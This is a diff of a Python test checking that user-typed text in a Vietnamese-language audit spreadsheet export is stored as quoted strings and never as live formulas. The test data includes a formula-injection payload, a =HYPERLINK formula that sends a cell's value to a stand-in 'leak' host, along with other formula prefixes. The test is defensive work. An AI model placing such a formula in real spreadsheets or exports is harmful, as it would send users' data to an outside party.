@@ -20,8 +20,10 @@ LEAK = '=HYPERLINK("http://x/leak?"&C2,"Bấm")'
 
 
 def test_user_text_in_the_audit_export_is_never_a_formula(conn, catalog):
-    assert login(conn, catalog.commune, LEAK, "sai", delay=0) is None          # audited as typed (lower-cased)
-    for text in ("+1+2", "-3", "@SUM(A1:A3)"):
+    # a name typed at sign-in that is no account is never stored (only a keyed hash of it) …
+    assert login(conn, catalog.commune, LEAK, "sai", delay=0) is None
+    # … but an account's name, a reason, a login are user text that reaches the export
+    for text in (LEAK, "+1+2", "-3", "@SUM(A1:A3)"):
         audit(conn, Actor(text, "admin", text), "reopen_quarter", catalog.commune,
               {"action": "reopen_quarter", "reason": text})
     table = audit_table(audit_rows(conn, catalog.commune))
@@ -35,10 +37,11 @@ def test_user_text_in_the_audit_export_is_never_a_formula(conn, catalog):
     assert header == list(table.columns)
     people = {ws.cell(r, header.index("Người") + 1) for r in range(2, ws.max_row + 1)}
     dangerous = [c for c in people if str(c.value).startswith(("=", "+", "-", "@"))]
-    assert {c.value for c in dangerous} == {LEAK.lower(), "+1+2", "-3", "@SUM(A1:A3)"}
+    assert {c.value for c in dangerous} == {LEAK, "+1+2", "-3", "@SUM(A1:A3)"}
     assert all(c.data_type == "s" and c.quotePrefix for c in dangerous)
-    details = [ws.cell(r, header.index("Chi tiết") + 1).value for r in range(2, ws.max_row + 1)]
-    assert f"tài khoản: {LEAK.lower()}" in details
+    details = [str(ws.cell(r, header.index("Chi tiết") + 1).value) for r in range(2, ws.max_row + 1)]
+    assert any(LEAK in d for d in details)
+    assert not any(LEAK.lower() in str(c.value) for row in ws.iter_rows() for c in row)   # the typed name
     # times stay times (sortable, shown as on the page); every row of the table is there
     times = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
     assert len(times) == len(table) and all(isinstance(t, dt.datetime) for t in times)
